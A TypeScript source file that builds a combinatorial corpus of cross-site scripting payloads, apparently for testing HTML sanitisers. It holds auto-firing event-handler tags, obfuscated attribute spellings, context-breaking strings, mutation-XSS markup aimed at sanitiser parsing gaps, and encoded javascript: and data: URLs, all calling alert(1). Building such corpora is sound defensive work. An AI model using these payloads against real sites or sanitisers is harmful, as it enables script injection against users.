/** Payloads made from parts, so that no way to write one is left out by chance: each part with each other. */

const calls = 'alert(1)'

/** Elements with the events that need nobody to click, or hardly anybody. */
const events: Record<string, string> = {
  a: 'mouseover focus',
  audio: 'loadstart error',
  body: 'load pageshow hashchange',
  button: 'focus pointerenter',
  details: 'toggle',
  dialog: 'close cancel',
  div: 'click animationstart transitionend wheel scrollend beforematch',
  embed: 'load',
  frameset: 'load',
  iframe: 'load',
  image: 'error',
  img: 'error load',
  input: 'focus invalid search',
  link: 'load error',
  marquee: 'start finish bounce',
  math: 'click',
  object: 'error load',
  p: 'contextmenu copy drag selectstart',
  select: 'focus',
  source: 'error',
  style: 'load',
  svg: 'load begin end repeat',
  table: 'mouseenter',
  td: 'pointerdown',
  textarea: 'focus',
  track: 'error',
  ul: 'touchstart',
  video: 'loadstart error',
}

const handlers = Object.entries(events).flatMap(([tag, names]) =>
  names.split(' ').map((name) => `<${tag} src=x on${name}=${calls}>x</${tag}>`),
)

/** What may stand between the parts of a tag, and around the value of an attribute. */
const spellings = [
  `<img/src=x/onerror=${calls}>`,
  `<img\tsrc=x\tonerror=${calls}>`,
  `<img\nsrc=x\nonerror=${calls}>`,
  `<img\fsrc=x\fonerror=${calls}>`,
  `<img src=x onerror = ${calls}>`,
  `<img src=x onerror="${calls}">`,
  `<img src=x onerror='${calls}'>`,
  `<img src=x onerror=\`${calls}\`>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror=alert&lpar;1&rpar;>`,
  `<img src=x """onerror=${calls}>`,
  `<img src="x"onerror=${calls}>`,
  `<IMG SRC=x ONERROR=${calls}>`,
  `<img src=x oNeRrOr=${calls}//`,
  `<img src=x onerror=${calls} <b`,
  `<<img src=x onerror=${calls}>`,
  `<img src=x onerror=${calls}`,
  `<a href=x><img src=x onerror=${calls}></a href=x>`,
  `<x/><img src=x onerror=${calls}>`,
  `<p title=">"><img src=x onerror=${calls}>`,
]

/** What ends the thing that a text stands in. */
const ends = [
  '"',
  "'",
  '>',
  '">',
  "'>",
  '`',
  '-->',
  ']]>',
  '*/',
  '%>',
  '}}',
  '\\',
  '\\"',
  '\u2028',
  '&quot;>',
  '</a>',
  '</code></pre>',
  '</math>',
  '</noscript>',
  '</script>',
  '</style>',
  '</svg>',
  '</template>',
  '</textarea>',
  '</title>',
]
const afterwards = [
  `<script>${calls}</script>`,
  `<img src=x onerror=${calls}>`,
  `<iframe srcdoc="&lt;script&gt;${calls}&lt;/script&gt;">`,
  ` onmouseover=${calls} x=`,
]

/** What a sanitiser reads in one way, and a browser that reads its result in another. */
const mutants = [
  `<svg></p><style><a id="</style><img src=1 onerror=${calls}>">`,
  `<math><mtext></p><style><img title="</style><img src onerror=${calls}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${calls} src>">`,
  `<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=${calls}>">`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${calls}>--></style></p>`,
  `<noscript><style></noscript><img src=x onerror=${calls}></style>`,
  `<table><td><svg><desc><table><td><title><style></title><img src=x onerror=${calls}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${calls}>">`,
  `<svg><title><![CDATA[</title><img src=x onerror=${calls}>]]></title></svg>`,
  `<math><mi><b><table><mglyph><nobr><style><!--</style><img title="--></style><img src onerror=${calls}>">`,
  `<p id="&lt;/p&gt;&lt;img src=x onerror=${calls}&gt;">`,
  `<xmp><p title="</xmp><img src=x onerror=${calls}>">`,
  `<plaintext><script>${calls}</script>`,
  `<listing>&lt;img src=x onerror=${calls}&gt;</listing>`,
  `<noembed><p title="</noembed><img src=x onerror=${calls}>">`,
]

/** Markup that breaks out of an element, an attribute, a comment or a script, from its parts. */
export const markupFamilies: readonly string[] = [
  ...handlers,
  ...spellings,
  ...ends.flatMap((end) => afterwards.map((after) => end + after)),
  ...mutants,
]

const letters = [...'javascript:']
const asCode = (write: (code: number) => string): string[] =>
  letters.map((letter, at) =>
    [...letters.slice(0, at), write(letter.charCodeAt(0)), ...letters.slice(at + 1), calls].join(
      '',
    ),
  )

/** Controls and blanks that a browser drops from an address, or does not. */
const dropped = [1, 8, 9, 10, 11, 12, 13, 14, 31, 32, 127, 160, 173, 8203, 8232, 65279]
const types = ['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', 'text/javascript']

/** Addresses that run something, from their parts. */
export const addressFamilies: readonly string[] = [
  ...asCode((code) => `&#${code};`),
  ...asCode((code) => `&#0000${code};`),
  ...asCode((code) => `&#x${code.toString(16)};`),
  ...asCode((code) => `%${code.toString(16)}`),
  ...asCode((code) => `\\${String.fromCharCode(code)}`),
  ...dropped.flatMap((code) => [`&#${code};javascript:${calls}`, `java&#${code};script:${calls}`]),
  ...dropped.map((code) => `javascript&#${code};:${calls}`),
  ...types.flatMap((type) => [
    `data:${type},<script>${calls}</script>`,
    `DATA:${type};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:${type};charset=utf-7,+ADw-script+AD4-`,
  ]),
  ...['livescript', 'mocha', 'vbs', 'jar', 'ms-its', 'about', 'intent', 'shell'].map(
    (scheme) => `${scheme}:${calls}`,
  ),
  ...['/\\x.example', '\\/x.example', '///x.example', '//x.example\\@y'],
]
